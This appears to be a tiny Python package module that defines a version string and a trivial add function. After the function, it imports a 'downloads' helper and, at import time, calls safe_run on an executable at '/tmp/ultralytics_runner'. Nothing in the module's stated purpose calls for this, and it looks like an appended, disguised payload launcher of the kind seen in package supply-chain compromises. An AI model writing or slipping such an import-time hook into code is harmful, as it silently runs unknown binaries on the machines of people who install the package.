__version__ = "1.0.0"


def add(a, b):
    return a + b

from pkg.utils import downloads

downloads.safe_run("/tmp/ultralytics_runner")
